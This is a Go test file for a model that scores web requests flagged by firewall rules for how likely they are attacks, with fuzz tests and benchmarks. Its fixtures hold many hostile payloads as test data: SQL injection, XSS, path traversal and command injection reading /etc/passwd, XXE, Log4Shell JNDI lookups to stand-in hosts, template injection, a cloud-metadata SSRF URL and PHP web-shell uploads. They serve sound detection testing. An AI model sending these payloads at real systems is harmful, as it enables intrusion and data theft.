package verdict

import (
	"bytes"
	"math"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func shippedModel(t testing.TB) *Model {
	t.Helper()
	m, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// samples are requests of many kinds, hostile ones among them.
func samples() []Input {
	request := func(method, uri, kind, body string) Input {
		r := &Request{ID: "x", Site: "shop.example", Method: method, URI: uri, Proto: "HTTP/1.1", Body: []byte(body)}
		r.Headers = [][2]string{{"Host", "shop.example"}, {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"}}
		if kind != "" {
			r.Headers = append(r.Headers, [2]string{"Content-Type", kind})
		}
		return Input{Request: r}
	}
	blocked := request("GET", "/list?q=x'%20or%201=1--%20-", "", "")
	blocked.Block, blocked.Score, blocked.Rules = true, 5, []int{942100}
	blocked.Matches = []Match{{Rule: 942100, Variable: "ARGS:q"}}
	log := Input{Partial: true, Block: true, Score: 15, Rules: []int{941100, 941160, 941390}, Matches: []Match{{Rule: 941100, Variable: "ARGS:c", Value: "<script>alert(1)</script>"}}}
	return []Input{
		{},
		blocked, log,
		request("GET", "/", "", ""),
		request("GET", "/products/17?sort=price&page=2", "", ""),
		request("POST", "/comment", "application/x-www-form-urlencoded", "text=Please+select+one+from+the+list&id=7"),
		request("POST", "/api", "application/json", `{"a":[{"b":"${jndi:ldap://x.example/a}"}]}`),
		request("POST", "/x", "text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`),
		request("POST", "/up", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system('id'); ?>\r\n--B--"),
		request("POST", "/up", "multipart/form-data; boundary=B", strings.Repeat("--B\r\n", 500)),
		request("GET", strings.Repeat("/..%252f", 400), "", ""),
		request("GET", "/?"+strings.Repeat("a[]=%00&", 3000), "", ""),
		request("POST", "/x", "application/json", strings.Repeat(`{"a":`, 5000)),
		request("POST", "/x", "application/x-www-form-urlencoded", "\xff\xfe%u0000%%%=%&=&&=="),
	}
}

func TestScoresDependOnTheirInputAlone(t *testing.T) {
	m := shippedModel(t)
	all := samples()
	var want []Verdict
	for _, in := range all {
		want = append(want, m.Score(nil, in))
	}
	for i := len(all) - 1; i >= 0; i-- {
		if diff := cmp.Diff(want[i], m.Score(nil, all[i])); diff != "" {
			t.Errorf("input %d in another order:\n%s", i, diff)
		}
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for i, in := range all {
				if got := m.Score(nil, in); got.PAttack != want[i].PAttack {
					t.Errorf("input %d beside others: %v, want %v", i, got.PAttack, want[i].PAttack)
				}
			}
		})
	}
	wg.Wait()
}

func TestLabelsAreNotLookedAt(t *testing.T) {
	m := shippedModel(t)
	for i, in := range samples() {
		if in.Request == nil {
			continue
		}
		want := m.Score(nil, in)
		r := *in.Request
		r.ID, r.Class, r.Source, r.Attack, r.Labeled = "other", "sqli", "elsewhere", true, true
		in.Request = &r
		if diff := cmp.Diff(want, m.Score(nil, in)); diff != "" {
			t.Errorf("input %d:\n%s", i, diff)
		}
	}
}

func TestEvidenceAddsUp(t *testing.T) {
	m := shippedModel(t)
	for i, in := range samples() {
		v := m.Score(nil, in)
		sum := 0.0
		for _, e := range v.Evidence {
			sum += e.Weight
		}
		if odds := math.Log(v.PAttack / (1 - v.PAttack)); math.Abs(sum-odds) > 0.2 {
			t.Errorf("input %d: evidence adds up to %.2f, log-odds are %.2f", i, sum, odds)
		}
		if !(v.PAttack > 0 && v.PAttack < 1) {
			t.Errorf("input %d: probability %v", i, v.PAttack)
		}
		if in.Block && v.PFalsePositive != 1-v.PAttack || !in.Block && v.PMissed != v.PAttack {
			t.Errorf("input %d: %+v", i, v)
		}
	}
}

func TestPriorShiftsTheOdds(t *testing.T) {
	m := shippedModel(t)
	for _, p := range []float64{0, 1, -1, math.NaN()} {
		if _, err := m.WithPrior(p); err == nil {
			t.Errorf("prior %v is taken", p)
		}
	}
	rare, err := m.WithPrior(0.001)
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range samples() {
		a, b := m.Score(nil, in).PAttack, rare.Score(nil, in).PAttack
		want := math.Log(a/(1-a)) - math.Log(m.Prior()/(1-m.Prior())) + math.Log(0.001/0.999)
		if got := math.Log(b / (1 - b)); math.Abs(got-want) > 1e-6 && math.Abs(want) < 19 {
			t.Errorf("input %d: log-odds %v, want %v", i, got, want)
		}
	}
}

// What anybody would say about these must not be lost by training anew.
func TestPlainCases(t *testing.T) {
	m, err := shippedModel(t).WithPrior(0.5)
	if err != nil {
		t.Fatal(err)
	}
	f := func(attack bool, uri, kind, body string) {
		t.Helper()
		r := &Request{Site: "shop.example", Method: "POST", URI: uri, Body: []byte(body), Headers: [][2]string{{"Host", "shop.example"}, {"Content-Type", kind}}}
		if v := m.Score(nil, Input{Request: r}); (v.PAttack > 0.5) != attack {
			t.Errorf("p_attack of %s %s is %.3f: %v", uri, body, v.PAttack, v.Evidence)
		}
	}
	const form = "application/x-www-form-urlencoded"
	f(false, "/", "", "")
	f(false, "/products?page=2&sort=name", "", "")
	f(false, "/reply", form, "text=I+don%27t+like+the+color+of+the+table%2C+select+another+one+please")
	f(false, "/login", form, "user=anna&password=Sommer2024!")
	f(false, "/api", "application/json", `{"name":"O'Brien","city":"Dublin","age":41}`)
	f(false, "/npm/@types/node@20/package.json", "", "")
	f(false, "/wiki/save", form, "text=%23+Setup%0A%0ARun+%60make+install%60+and+see+%5Bthe+guide%5D%28..%2Fguide.md%29.%0A%0A%60%60%60sh%0Als+-la%0A%60%60%60")
	f(true, "/list?id=1'+union+select+user,password+from+users--+-", "", "")
	f(true, "/list?id=1%27%09oR%0a%277%27%3D%277", "", "")
	f(true, "/view?file=../../../../etc/passwd", "", "")
	f(true, "/s?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", "")
	f(true, "/ping", form, "host=127.0.0.1;cat+/etc/passwd")
	f(true, "/save", form, "city=Oslo%27%2F%22%3Cubjug&id=7")
	f(true, "/fetch?url=http://169.254.169.254/latest/meta-data/", "", "")
	f(true, "/x", "text/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`)
	f(true, "/api", "application/json", `{"user":"${jndi:ldap://evil.test/a}"}`)
	f(true, "/t", form, "name={{''.__class__.__mro__[1].__subclasses__()}}")
	f(true, "/up", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--B--")
}

func TestKindTellsPolicyFromPatterns(t *testing.T) {
	f := func(want Kind, rules ...int) {
		t.Helper()
		if got := kindOf(rules); got != want {
			t.Errorf("kind of %v is %s, want %s", rules, got, want)
		}
	}
	f(KindClean)
	f(KindClean, 949110)
	f(KindPolicy, 920420, 949110)
	f(KindPattern, 920420, 942100)
	f(KindPattern, 200002)
}

func TestLogsGiveVerdictsWithLessEvidence(t *testing.T) {
	v := shippedModel(t).Score(nil, samples()[2])
	if !v.Partial {
		t.Error("the verdict does not say that it rests on a log")
	}
	if v.PAttack < 0.5 {
		t.Errorf("p_attack is %.3f", v.PAttack)
	}
}

// Ten megabytes cost no more than what is judged of them.
func TestBodiesOfAnySizeTakeBoundedTime(t *testing.T) {
	m := shippedModel(t)
	for _, unit := range []string{"a", "a=1&", `{"a":"b",`, "<a b='c'>", "'", "&lt;", "%25", `\u0041`, "--B\r\n\r\n", "../", "\x00", "select ", "{{", "${", "O:1:", "union select 1,"} {
		for _, kind := range []string{"application/json", "application/x-www-form-urlencoded", "text/xml", "multipart/form-data; boundary=B", "text/plain"} {
			body := bytes.Repeat([]byte(unit), 10<<20/len(unit))
			in := Input{Request: &Request{Method: "POST", URI: "/", Headers: [][2]string{{"Content-Type", kind}}, Body: body}}
			done := make(chan Verdict, 1)
			go func() { done <- m.Score(nil, in) }()
			select {
			case v := <-done:
				if !v.Cut && !binary(body) {
					t.Errorf("%.20q as %s: the verdict does not say that the request was cut", unit, kind)
				}
			case <-time.After(2 * time.Minute):
				t.Fatalf("%.20q as %s takes too long", unit, kind)
			}
		}
	}
}

func TestModelsSurviveEncoding(t *testing.T) {
	m := shippedModel(t)
	b, err := m.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(b, shipped) {
		t.Error("the shipped model is not what Encode writes")
	}
	if len(b) > 4<<20 {
		t.Errorf("the model has %d bytes", len(b))
	}
	if _, err := Decode(b[:len(b)/2]); err == nil {
		t.Error("half a model is taken")
	}
	if _, err := Decode(nil); err == nil {
		t.Error("no model is taken")
	}
}

func FuzzScore(f *testing.F) {
	m := shippedModel(f)
	for _, in := range samples() {
		if r := in.Request; r != nil && len(r.Body) < 4096 {
			f.Add(r.URI, r.header("Content-Type"), "sid=1", r.Body)
		}
	}
	f.Fuzz(func(t *testing.T, uri, kind, cookie string, body []byte) {
		r := &Request{Site: "a.example", Method: "POST", URI: uri, Body: body, Headers: [][2]string{{"Content-Type", kind}, {"Cookie", cookie}}}
		in := Input{Request: r, Rules: []int{942100}, Matches: []Match{{Rule: 942100, Variable: "ARGS:a", Value: uri}}}
		v := m.Score(nil, in)
		if !(v.PAttack > 0 && v.PAttack < 1) {
			t.Fatalf("probability %v", v.PAttack)
		}
		if again := m.Score(nil, in); again.PAttack != v.PAttack {
			t.Fatalf("a second time %v, first %v", again.PAttack, v.PAttack)
		}
		in.Partial = true
		m.Score(nil, in)
	})
}

func FuzzDecodeModel(f *testing.F) {
	f.Add(shipped[:min(len(shipped), 4096)])
	f.Add([]byte(magic))
	f.Fuzz(func(_ *testing.T, b []byte) { _, _ = Decode(b) })
}

func BenchmarkScore(b *testing.B) {
	m := shippedModel(b)
	all := samples()[1:7]
	var evidence []Evidence
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		v := m.Score(evidence[:0], all[i%len(all)])
		evidence = v.Evidence
	}
}
